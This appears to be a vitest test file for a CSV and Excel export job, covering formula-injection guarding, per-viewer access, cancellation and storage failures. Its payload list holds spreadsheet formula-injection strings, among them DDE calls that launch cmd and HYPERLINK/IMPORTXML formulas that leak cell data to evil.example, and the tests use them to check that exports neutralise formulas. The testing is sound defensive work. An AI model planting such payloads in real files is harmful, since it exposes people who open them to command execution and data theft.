import { readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { readXlsx } from 'hucre/xlsx'
import { expect, test, vi } from 'vitest'
import type { Viewer } from '#entity/access.ts'
import { present } from '#kernel/assert.ts'
import { type ExportDeps, runExport } from '#server/export/export-run.server.ts'
import { EXPORT_KIND, jobKind } from '#server/job.server.ts'
import { type Files, folderFiles } from '#server/storage.server.ts'
import { freshDatabase } from '../database.ts'
import { refusalOf } from '../fixtures/refusal.ts'
import { act, seedApprovedTimesheet, seedWeek } from '../fixtures/world.ts'
import { Browser, testApp } from './harness.ts'
import { sampleBusinesses, samplePerson, testClock, viewerOf } from './sample.ts'

const database = await freshDatabase()
const clock = testClock()
const { app, folder } = await testApp(database, clock)
const home = join(folder, 'files')
const world = { database, clock }
const deps: ExportDeps = { database, clock, files: folderFiles(home), pace_ms: 0 }

const sample = await sampleBusinesses(database)
const person = await samplePerson(database, clock, sample.agency_id, ['agency_admin'])
const colleague = await samplePerson(database, clock, sample.agency_id, ['agency_admin'])
const viewer = await viewerOf(database, person)
const placement = await seedWeek(world)
await seedApprovedTimesheet(world, placement)

const { sql } = database

const everything = (of: string) =>
  readdirSync(of, { recursive: true, withFileTypes: true }).filter((one) => one.isFile())

/** Starts of formulas in every spreadsheet, with what people have put behind them. */
const payloads = ['=', '+', '-', '@', '\\', '\t', '\r'].flatMap((sign) =>
  [
    '1+1',
    'SUM(A1:A9)',
    `cmd|' /C calc'!A0`,
    'HYPERLINK("http://evil.example/?x="&A1,"open")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    '"quoted", and more',
    '2\r\n=3',
    '=="twice"',
  ].map((rest) => sign + rest),
)
const notes_count = 1_240
await sql(
  `insert into platform.note (business_id, parent_entity, parent_id, text, user_id, user_name, created_at)
   select $1, 'business.business', $1, coalesce(($2::text[])[n], 'Note ' || n), $3, 'Robin', now() - n * interval '1 minute'
   from generate_series(1, $4) n`,
  sample.agency_id,
  payloads,
  person.user_id,
  notes_count,
)
const notes = {
  entity: 'platform.note',
  order_by: [{ created_at: 'desc' }, { id: 'desc' }],
  columns: [
    { field: 'text', label: 'Text' },
    { field: 'user_name', label: '=Who' },
  ],
}

type Job = { status: string; total: number; done: number; message: string | null; kind: string }
const jobOf = async (id: string): Promise<Job> =>
  present(
    (await sql<Job>('select status, total, done, message, kind from platform.job where id = $1', id))[0],
    'the job',
  )

async function start(by: Viewer, input: object): Promise<string> {
  return (await act<{ job_id: string }>(world, by, 'platform.export.start', input)).job_id
}
async function exported(by: Viewer, input: object, more: Partial<ExportDeps> = {}): Promise<string> {
  const id = await start(by, input)
  expect(await jobKind(database, id)).toBe(EXPORT_KIND)
  await runExport({ ...deps, ...more }, id)
  return id
}
async function bytesOf(job_id: string): Promise<Buffer> {
  const [file] = await sql<{ file_url: string }>(
    `select file_url from platform.attachment where parent_entity = 'platform.job' and parent_id = $1`,
    job_id,
  )
  const found = await folderFiles(home).read(present(file, 'a file').file_url)
  return Buffer.concat(await present(found, 'its bytes').stream.toArray())
}
const csvOf = async (id: string): Promise<string[][]> => parse(await bytesOf(id))

test('CSV has every row the database counts, in order, with every formula guarded', async () => {
  expect(payloads.length).toBeGreaterThanOrEqual(60)
  const id = await exported(viewer, { ...notes, format: 'csv' })
  const wanted = await sql<{ text: string }>(
    'select text from platform.note where business_id = $1 order by created_at desc, id desc',
    sample.agency_id,
  )
  expect(await jobOf(id)).toEqual({
    status: 'completed',
    kind: 'export',
    total: wanted.length,
    done: wanted.length,
    message: '1,240 rows exported',
  })
  const [header, ...rows] = await csvOf(id)
  expect(header).toEqual(['Text', "'=Who"])
  expect(rows).toEqual(
    wanted.map(({ text }, at) => [at < payloads.length ? `'${payloads[at]}` : text, 'Robin']),
  )
})

test('of the rows that were selected it has these, as far as they are the viewer’s and of the list', async () => {
  const [theirs] = await sql<{ id: string }>(
    `insert into platform.note (business_id, parent_entity, parent_id, text, user_id, user_name)
     values ($1, 'business.business', $1, 'Theirs', $2, 'Robin') returning id`,
    sample.client_id,
    person.user_id,
  )
  const wanted = await sql<{ id: string; text: string }>(
    `select id, text from platform.note where business_id = $1 and text like 'Note 1%'
     order by created_at desc, id desc limit 20`,
    sample.agency_id,
  )
  const ids = [...wanted.map(({ id }) => id), present(theirs, 'a note').id]
  const asked = { ...notes, format: 'csv', ids }
  const [, ...rows] = await csvOf(await exported(viewer, asked))
  expect(rows.map(([text]) => text)).toEqual(wanted.map(({ text }) => text))
  const none = await exported(viewer, { ...asked, where: { text: { _eq: 'Note 2' } } })
  expect(await csvOf(none)).toHaveLength(1)
  const refused = await refusalOf(start(viewer, { ...notes, format: 'csv', ids: ['not an id'] }))
  expect(refused.errors).toHaveProperty(['ids.0'])
})

test('Excel has the same rows, and its text is guarded, too', async () => {
  const id = await exported(viewer, { ...notes, format: 'excel' })
  expect(await jobOf(id)).toMatchObject({
    status: 'completed',
    done: notes_count,
    message: '1,240 rows exported',
  })
  const { sheets } = await readXlsx(await bytesOf(id))
  const [header, ...rows] = present(sheets[0], 'a sheet').rows
  expect(header).toEqual(['Text', "'=Who"])
  expect(rows).toHaveLength(notes_count)
  // A line end inside XML is one sign, however it was written.
  const lines = (text: unknown) => String(text).replace(/\r\n?/g, '\n')
  expect(rows.slice(0, payloads.length).map(([text]) => lines(text))).toEqual(
    payloads.map((text) => lines(`'${text}`)),
  )
})

test('exports matches only, and counts one row in the singular', async () => {
  const where = { text: { _ilike: 'Note 1000' } }
  const id = await exported(viewer, { ...notes, format: 'csv', where })
  expect(await csvOf(id)).toEqual([
    ['Text', "'=Who"],
    ['Note 1000', 'Robin'],
  ])
  expect(await jobOf(id)).toMatchObject({ message: '1 row exported' })
  const none = await exported(viewer, { ...notes, format: 'excel', where: { text: { _eq: 'None' } } })
  expect(await jobOf(none)).toMatchObject({ status: 'completed', message: '0 rows exported' })
})

test('amounts and days are numbers in Excel; a negative amount has a quote in CSV alone', async () => {
  const { provider } = placement.agency
  await sql(
    `insert into transaction.bank_line (bank_account_id, provider_id, transaction_date, amount, currency_id, dedupe_key)
     select $1, $2, '2025-06-13', a, (select id from platform.currency where alpha_code = 'GBP'), 'e' || a
     from unnest('{-12.50,9000000000000.10}'::numeric[]) a`,
    provider.trust_account_id,
    provider.id,
  )
  const lines = {
    entity: 'transaction.bank_line',
    where: { reference: { _eq: '' } },
    order_by: [{ amount: 'asc' }],
    columns: [
      { field: 'amount', label: 'Amount' },
      { field: 'transaction_date', label: 'Date' },
    ],
  }
  expect(await csvOf(await exported(provider.admin, { ...lines, format: 'csv' }))).toEqual([
    ['Amount', 'Date'],
    ["'-12.50", '2025-06-13'],
    ['9000000000000.10', '2025-06-13'],
  ])
  const { sheets } = await readXlsx(
    await bytesOf(await exported(provider.admin, { ...lines, format: 'excel' })),
  )
  const rows = present(sheets[0], 'a sheet').rows.slice(1)
  expect(rows.map(([amount]) => amount)).toEqual([-12.5, 9000000000000.1])
  const [date] = rows.map((row) => row[1])
  expect(date instanceof Date ? date.toISOString().slice(0, 10) : date).toBe('2025-06-13')
})

test('each viewer gets their own rows, as many as the database counts', async () => {
  const input = {
    entity: 'transaction.invoice',
    format: 'csv',
    columns: [{ field: 'human_id', label: 'Invoice Id' }],
  }
  const ids = async (by: Viewer) => (await csvOf(await exported(by, input))).slice(1).flat().sort()
  const [{ all } = { all: [] }] = await sql<{ all: string[] }>(
    'select array_agg(human_id order by human_id) as all from transaction.invoice where agency_id = $1',
    placement.agency.id,
  )
  expect(all.length).toBeGreaterThan(0)
  expect(await ids(placement.agency.admin)).toEqual([...all].sort())
  expect(await ids(viewer)).toEqual([])
  const [{ mine } = { mine: -1 }] = await sql<{ mine: number }>(
    `select count(*)::int as mine from transaction.invoice where contractor_id = $1 and (to_business_id = $2 or from_business_id = $2)`,
    placement.contractor.id,
    placement.contractor.payment_company_id,
  )
  const contractors = await ids(placement.contractor.viewer)
  expect(contractors).toHaveLength(mine)
  expect(contractors.length).toBeLessThan(all.length)
})

test.each([
  ['shown', { columns: [{ field: 'is_disallowed', label: 'Disallowed' }] }],
  ['filtered by', { where: { is_disallowed: { _eq: true } } }],
  ['sorted by', { order_by: [{ is_disallowed: 'asc' }] }],
])('a field that the viewer may not read is refused when %s', async (_how, part) => {
  const before = everything(home).length
  const id = await exported(placement.contractor.viewer, {
    entity: 'transaction.invoice',
    format: 'csv',
    columns: [{ field: 'human_id', label: 'Invoice Id' }],
    ...part,
  })
  const job = await jobOf(id)
  expect(job.status).toBe('failed')
  expect(job.message).toMatch(/^The list could not be read: field 'is_disallowed' not found/)
  expect(everything(home)).toHaveLength(before)
})

test('rows that a report makes are exported as they are listed, each business its own', async () => {
  const statement = {
    entity: 'report.get_client_statement',
    format: 'csv',
    columns: [
      { field: 'client_name', label: 'Client' },
      { field: 'net_outstanding_balance', label: 'Owed' },
    ],
  }
  const [owed] = await sql<{ name: string; net: string }>(
    `select b.name, sum(i.outstanding_balance)::text as net from transaction.invoice i join business.business b on b.id = i.client_id
     where i.agency_id = $1 and i.status = 'open' and i.type in ('provider-client', 'agency-client', 'funder-client') group by b.name`,
    placement.agency.id,
  )
  const { name, net } = present(owed, 'a client that owes something')
  expect(await csvOf(await exported(placement.agency.admin, statement))).toEqual([
    ['Client', 'Owed'],
    [name, net],
  ])
  expect(await csvOf(await exported(viewer, statement))).toEqual([['Client', 'Owed']])
})

test('unknown list: refused at once', async () => {
  const columns = [{ field: 'human_id', label: 'Id' }]
  const refused = (input: object) => refusalOf(start(viewer, { format: 'csv', columns, ...input }))
  expect((await refused({ entity: 'auth.user' })).errors).toHaveProperty('entity')
  expect((await refused({ entity: 'transaction.invoice', columns: [] })).errors).toEqual({
    columns: 'Mandatory',
  })
  expect((await refused({ entity: 'transaction.invoice', format: 'word' })).errors).toHaveProperty('format')
  const wrong = { entity: 'transaction.invoice', columns: [{ field: 'constructor', label: 'x' }] }
  expect((await refused(wrong)).errors).toHaveProperty(['columns.0.field'])
})

test('its user alone downloads the file', async () => {
  const id = await exported(viewer, { ...notes, format: 'csv' })
  const [mine, other] = [new Browser(app), new Browser(app)]
  await mine.login(person.email)
  await other.login(colleague.email)
  const answer = await mine.get(`/api/export/${id}`)
  expect(answer.status).toBe(200)
  expect(answer.raw.rawPayload).toEqual(await bytesOf(id))
  expect(answer.raw.headers['content-type']).toBe('text/csv; charset=utf-8')
  expect(answer.raw.headers['content-disposition']).toContain('filename="Notes 2026-03-04.csv"')
  expect((await other.get(`/api/export/${id}`)).status).toBe(404)
  expect((await other.get('/api/export/nonsense')).status).toBe(404)
  expect((await new Browser(app).get(`/api/export/${id}`)).status).toBe(401)
  const [file] = await sql<{ file_url: string }>(
    'select file_url from platform.attachment where parent_id = $1',
    id,
  )
  // By its content's name alone it is nobody's.
  const path = `/api/storage/download?path=${file?.file_url}`
  expect([(await mine.get(path)).status, (await other.get(path)).status]).toEqual([404, 404])
})

/** The real store; `meanwhile` happens once the first bytes are written. */
function whileWriting(meanwhile: () => Promise<unknown>): Files {
  const files = folderFiles(home)
  let happened = false
  return {
    ...files,
    draft: async () => {
      const draft = await files.draft()
      return {
        ...draft,
        write: async (bytes) => {
          await draft.write(bytes)
          if (!happened) await meanwhile()
          happened = true
        },
      }
    },
  }
}

test.each(['csv', 'excel'])('an export as %s that is cancelled leaves no file', async (format) => {
  const before = everything(home).length
  const id = await start(viewer, { ...notes, format })
  let beside = 0
  const files = whileWriting(async () => {
    beside = everything(home).length
    await act(world, viewer, 'platform.job.cancel', { id })
  })
  expect(await runExport({ ...deps, files }, id)).toBe('ended')
  expect(beside).toBe(before + 1)
  expect(everything(home)).toHaveLength(before)
  expect(await jobOf(id)).toMatchObject({ status: 'cancelled', message: null })
  expect(await sql('select id from platform.attachment where parent_id = $1', id)).toEqual([])
  const mine = new Browser(app)
  await mine.login(person.email)
  expect((await mine.get(`/api/export/${id}`)).status).toBe(404)
})

test('rests when the process ends, and starts over', async () => {
  const id = await start(viewer, { ...notes, format: 'csv' })
  let ends = false
  const asked = Promise.withResolvers<void>()
  // The file is small: without the wait it could be whole before the export asks.
  const files = whileWriting(() => {
    ends = true
    return asked.promise
  })
  const isStopping = () => {
    if (ends) asked.resolve()
    return ends
  }
  expect(await runExport({ ...deps, files, isStopping }, id)).toBe('resting')
  expect(await jobOf(id)).toMatchObject({ status: 'running' })
  // The first connection holds the export until PostgreSQL has closed it.
  await vi.waitUntil(
    async () => {
      expect(await runExport(deps, id)).toBe('ended')
      return (await jobOf(id)).status === 'completed'
    },
    { timeout: 60_000, interval: 50 },
  )
  expect(await csvOf(id)).toHaveLength(notes_count + 1)
})

test('two workers on one export leave one file', async () => {
  const id = await start(viewer, { ...notes, format: 'csv' })
  await Promise.all([runExport(deps, id), runExport(deps, id), runExport(deps, id)])
  expect(await jobOf(id)).toMatchObject({ status: 'completed' })
  expect(await sql('select id from platform.attachment where parent_id = $1', id)).toHaveLength(1)
})

test('deactivated viewer: gets no file', async () => {
  const leaver = await samplePerson(database, clock, sample.agency_id, ['agency_admin'])
  const id = await start(await viewerOf(database, leaver), { ...notes, format: 'csv' })
  await sql('update business.business_contact set is_active = false where id = $1', leaver.contact_id)
  await runExport(deps, id)
  expect(await jobOf(id)).toMatchObject({
    status: 'failed',
    message: 'You do not have permission to do this',
  })
})

test('unwritable store: reported', async () => {
  const blocked = join(folder, 'blocked')
  writeFileSync(blocked, '')
  const id = await exported(viewer, { ...notes, format: 'csv' }, { files: folderFiles(blocked) })
  expect(await jobOf(id)).toMatchObject({
    status: 'failed',
    message:
      'The file could not be stored. The place for files cannot be written to at the moment. Nothing was changed.',
  })
})
